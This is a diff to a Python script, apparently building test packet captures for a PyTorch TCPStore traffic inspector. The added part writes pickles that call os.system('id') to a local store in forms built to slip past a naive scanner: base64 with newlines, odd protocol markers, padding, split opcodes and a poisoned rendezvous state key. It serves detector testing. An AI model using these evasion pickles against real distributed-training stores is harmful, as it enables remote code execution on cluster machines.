@@ -18,7 +18,14 @@ Captures, each a master TCPStore on 127.0.0.1 (free port) and torch's own client
   the queue queries it does not implement;
 * tcpstore_rendezvous.pcap - torch.distributed.elastic's c10d rendezvous (DynamicRendezvousHandler
   over C10dRendezvousBackend, one node): the base64 pickles of the rendezvous state, as torchrun
-  agents exchange them.
+  agents exchange them;
+* tcpstore_evasions.pcap - pickles naming os.system written the ways pickle.loads (and torch's
+  b64decode) still take them while a naive scanner does not: base64 with newlines, a protocol 0
+  pickle with a trailing byte, PROTO 0/1 markers, a FRAME with no PROTO, a STACK_GLOBAL whose two
+  strings have other opcodes between them, 32 harmless globals first, 70 KB of padding first,
+  a harmless and a malicious pickle in one MULTI_SET, one split over two APPENDs (read back
+  whole by a GET), and the base64 state of torch.rendezvous.job42 with a trailing newline.
+  Pickled here, never unpickled by anyone.
 
 Every client connection opens with VALIDATE and PING: the new numbering. The old numbering
 (torch < 2.2) cannot be produced by this torch: inspector/lab/tcpstorecaps.py crafts it.
@@ -26,6 +33,7 @@ Every client connection opens with VALIDATE and PING: the new numbering. The old
 
 from __future__ import annotations
 
+import base64
 import datetime
 import os
 import pickle
@@ -184,6 +192,49 @@ def store_queries(port: int, libuv: bool) -> None:
     del client, master
 
 
+#: Every way a pickle naming os.system can be written so that pickle.loads (or torch's
+#: b64decode then pickle.loads) still takes it: what tcpstore_evasions.pcap carries, key by key.
+_PLAIN = b"cos\nsystem\n(S'id'\ntR."  # protocol 0: no marker
+_HARMLESS = ["int", "str", "list", "dict", "set", "tuple", "float", "bytes", "bool", "complex", "frozenset",
+             "bytearray", "range", "slice", "object", "type", "len", "abs", "min", "max", "sum", "sorted",
+             "reversed", "enumerate", "zip", "map", "filter", "repr", "hash", "iter", "next", "round"]
+
+
+def evasion_values() -> dict[str, bytes]:
+    proto4 = pickle.dumps(_Evil(), protocol=4)
+    padding = b"A" * 70_000
+    return {
+        "b64_newlines": base64.encodebytes(proto4),  # b64decode drops the newlines
+        "proto0_trailing": _PLAIN + b"\n",  # pickle.loads ignores what follows STOP
+        "proto1_marker": b"\x80\x01" + _PLAIN,
+        "proto0_marker": b"\x80\x00" + _PLAIN,
+        "frame_first": b"\x95" + struct.pack("<Q", len(_PLAIN)) + _PLAIN,  # FRAME with no PROTO
+        # STACK_GLOBAL with an unrelated push and pop between the module and the name strings
+        "split_strings": b"\x80\x04\x8c\x02os\x94)0\x8c\x06system\x94\x93\x8c\x02id\x94\x85\x94R\x94.",
+        # 32 harmless globals first (the record lists 32)
+        "many_globals": b"\x80\x02" + b"".join(b"cbuiltins\n" + n.encode() + b"\n0" for n in _HARMLESS) + _PLAIN,
+        # 70 KB of string, popped, then the call: past the 64 KiB the inspector keeps of a value
+        "padded": b"\x80\x04\x8d" + struct.pack("<Q", len(padding)) + padding + b"0" + proto4[2:],
+    }
+
+
+def evasions(port: int) -> None:
+    master = dist.TCPStore("127.0.0.1", port, is_master=True, wait_for_workers=False, timeout=TIMEOUT)
+    client = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=TIMEOUT)
+    for name, value in evasion_values().items():
+        client.set(f"torch.rendezvous.x.{name}", value)
+    benign = pickle.dumps({"round": 1}, protocol=4)
+    client.multi_set(["torch.rendezvous.x.pair_benign", "torch.rendezvous.x.pair_evil"],
+                     [benign, pickle.dumps(_Evil(), protocol=4)])
+    evil = pickle.dumps(_Evil(), protocol=4)
+    client.append("torch.rendezvous.x.appended", evil[:10])  # each half alone is no pickle
+    client.append("torch.rendezvous.x.appended", evil[10:])
+    assert client.get("torch.rendezvous.x.appended") == evil  # what a victim reads back
+    # the rendezvous state key itself, as torchrun agents write it (base64), with a trailing newline
+    client.compare_set("torch.rendezvous.job42", "", base64.b64encode(evil).decode() + "\n")
+    del client, master
+
+
 def rendezvous(port: int) -> None:
     from torch.distributed.elastic.rendezvous import RendezvousParameters
     from torch.distributed.elastic.rendezvous.c10d_rendezvous_backend import C10dRendezvousBackend
@@ -206,6 +257,7 @@ def main(argv: list[str]) -> int:
     capture(out / "tcpstore_libuv.pcap", lambda port: store_queries(port, libuv=True))
     capture(out / "tcpstore_legacy.pcap", lambda port: store_queries(port, libuv=False))
     capture(out / "tcpstore_rendezvous.pcap", rendezvous)
+    capture(out / "tcpstore_evasions.pcap", evasions)
     import torch
 
     print(f"torch {torch.__version__}: wrote {', '.join(sorted(p.name for p in out.glob('tcpstore_*.pcap')))}")
